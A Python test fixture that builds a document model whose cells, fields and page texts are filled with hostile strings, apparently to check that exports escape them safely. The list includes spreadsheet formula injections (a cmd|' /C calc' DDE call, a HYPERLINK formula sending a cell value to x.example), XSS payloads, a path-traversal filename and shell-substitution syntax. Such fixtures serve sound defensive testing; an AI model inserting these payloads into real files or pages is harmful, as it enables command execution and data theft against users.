"""A document whose texts mean something to the programs that open it."""

import re

from face_samples import box, cell, fact, sample_document

from shenbao.models.document import Cell, Document, Indicator, Record, Table, Text

NAME = '../../etc/=cmd|"/c calc"!A0/<img src=x onerror=alert(1)>.pdf'
HOSTILE = [
    "=100",
    '=HYPERLINK("http://x.example/?"&A1,"点击")',
    "+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "＝1+1",
    "\t=1",
    "#N/A",
    "TRUE",
    "1e5",
    "_x0041_",
    "<script>alert('x')</script>",
    '"><img src=x onerror=alert(1)>',
    "&amp; &#60; ]]> -->",
    "a|b\n| --- | --- |\nc|d",
    "[x](javascript:alert(1)) ![y](http://x.example/y.png)",
    "# 标题\n- 项\n```\n1. 一",
    "控\x00制\x0b字\x1b[31m符\x7f\x85",
    "\ufffe\uffff𠮷",
    "'引号', \"双引号\"; 逗号",
    "%s %n {0} ${x} $(x)",
    "\u202e倒写",
]
UNSEEN = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ufffe\uffff]")
"""What may be left out: no format that people open can show it."""


def hostile_document() -> Document:
    document = sample_document(NAME)
    rows = [cell(k, 0, text) for k, text in enumerate(HOSTILE)]
    table = Table(
        id="t1",
        title="=1+1",
        captions=["@x"],
        pages=[1],
        n_rows=len(rows),
        n_cols=1,
        header_rows=[],
        cells=rows,
    )
    spanned = table.model_copy(
        update={"id": "t2", "title": "a/b[c]:*?\\'", "n_cols": 2, "cells": [_doubled(c) for c in rows]}
    )
    record = Record(
        family="project_declaration",
        tables=["t1"],
        fields={f"f{k}": fact(f"标签{k}", text, reasons=[text]) for k, text in enumerate(HOSTILE)},
        indicators=[Indicator(level3=fact("三级指标", text), unit=fact("单位", text)) for text in HOSTILE],
        lines=[],
        checks=[],
    )
    texts = [Text(text=t, confidence=0.9, polygon=box(5, 5, 300, 20)) for t in HOSTILE]
    page = document.pages[0].model_copy(update={"texts": texts})
    return document.model_copy(
        update={"pages": [page], "tables": [table, spanned], "records": [record]}, deep=True
    )


def _doubled(one: Cell) -> Cell:
    return one.model_copy(update={"col_span": 2})
